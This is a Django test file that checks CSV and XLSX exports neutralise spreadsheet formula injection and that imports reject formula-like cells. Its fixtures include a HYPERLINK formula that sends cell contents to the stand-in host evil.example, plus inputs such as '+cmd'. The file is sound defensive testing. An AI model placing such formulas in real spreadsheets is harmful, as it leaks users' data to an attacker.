"""Every export writes text a spreadsheet would run as a formula with a leading quote, and every
import refuses such text in a text column, naming the row and the column."""

import csv
import io

from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from thetsaban.coaching.models import Coach
from thetsaban.coaching.services import import_coaches
from thetsaban.coaching.tests.base import CoachingTestCase
from thetsaban.policy.choices import Level, RecommendationStatus
from thetsaban.policy.models import Recommendation
from thetsaban.policy.tests.base import PolicyTestCase
from thetsaban.tabular import ImportRejected
from thetsaban.transfers.importers import import_projects
from thetsaban.transfers.models import TransferProject
from thetsaban.transfers.tests.base import TransferTestCase

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(content: bytes, sheet=0) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).worksheets[sheet].iter_rows(values_only=True))


class CoachExportTests(CoachingTestCase):
    def setUp(self):
        translation.activate("en")
        self.addCleanup(translation.deactivate)
        self.coach = Coach.objects.select_related("person").first()
        self.coach.person.name_th = FORMULA
        self.coach.person.save()

    def test_staff_coach_export_neutralises_formulas_in_csv_and_xlsx(self):
        self.login(self.staff)
        rows = csv_rows(self.client.get(reverse("coaching:export")).content)
        row = next(r for r in rows if r[0] == str(self.coach.pk))
        self.assertEqual(row[1], "'" + FORMULA)
        rows = xlsx_rows(self.client.get(reverse("coaching:export") + "?format=xlsx").content)
        row = next(r for r in rows if r[0] == self.coach.pk)  # the id stays a number
        self.assertEqual(row[1], "'" + FORMULA)
        self.assertIsInstance(row[rows[0].index("capacity")], int)

    def test_exported_coaches_import_back_unchanged(self):
        self.login(self.staff)
        content = self.client.get(reverse("coaching:export")).content
        result = import_coaches(content, acting_user=None, filename="c.csv")
        self.assertEqual(result.created, 0)
        self.coach.person.refresh_from_db()
        self.assertEqual(self.coach.person.name_th, FORMULA)

    def test_import_refuses_formulas_in_name_and_email(self):
        text = ("name_th,email,home_province,languages\n"
                "สมชาย,somchai@example.org,90,th\n"
                "@SUM(1+1),=x@example.org,90,th\n")
        before = Coach.objects.count()
        with self.assertRaises(ImportRejected) as caught:
            import_coaches(text.encode(), acting_user=None, filename="c.csv")
        self.assertEqual([(p.row, p.column) for p in caught.exception.problems],
                         [(3, "name_th"), (3, "email")])
        self.assertIn("row 3, column name_th: starts with @", str(caught.exception))
        self.assertEqual(Coach.objects.count(), before)


class TransferExportTests(TransferTestCase):
    def setUp(self):
        TransferProject.objects.filter(pk=self.project.pk).update(title=FORMULA)

    def test_public_export_neutralises_formulas(self):
        self.login(None)
        rows = csv_rows(self.client.get(reverse("transfers:export", args=["csv"])).content)
        titles = [row[rows[0].index("title")] for row in rows[1:]]
        self.assertIn("'" + FORMULA, titles)
        self.assertNotIn(FORMULA, titles)
        rows = xlsx_rows(self.client.get(reverse("transfers:export", args=["xlsx"])).content)
        row = next(r for r in rows[1:] if r[0] == self.project.pk)
        self.assertEqual(row[rows[0].index("title")], "'" + FORMULA)

    def test_export_imports_back_and_formulas_are_refused(self):
        content = self.client.get(reverse("transfers:export", args=["csv"])).content
        import_projects(content, acting_user=self.staff)
        self.project.refresh_from_db()
        self.assertEqual(self.project.title, FORMULA)
        text = "title,target_lgu\n+cmd,SK\n"
        with self.assertRaises(ImportRejected) as caught:
            import_projects(text.encode(), acting_user=self.staff)
        self.assertEqual([(p.row, p.column) for p in caught.exception.problems], [(2, "title")])


class PolicyReportExportTests(PolicyTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        Recommendation.objects.create(level=Level.POLICY, title="สูตร", problem="-2+3",
                                      recommendation=FORMULA, lgu_codes="SK",
                                      status=RecommendationStatus.PROPOSED, owner=cls.editor)

    def test_report_xlsx_neutralises_formulas(self):
        content = self.client.get(reverse("policy:report_xlsx")).content
        book = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        self.assertIn("'" + FORMULA, texts)
        self.assertIn("'-2+3", texts)
        self.assertFalse([cell for cell in cells if cell.data_type == "f"])
        counts = [row[1] for row in book.worksheets[0].iter_rows(values_only=True)
                  if isinstance(row[1] if len(row) > 1 else None, int)]
        self.assertTrue(counts)  # the summary's counts stay numbers
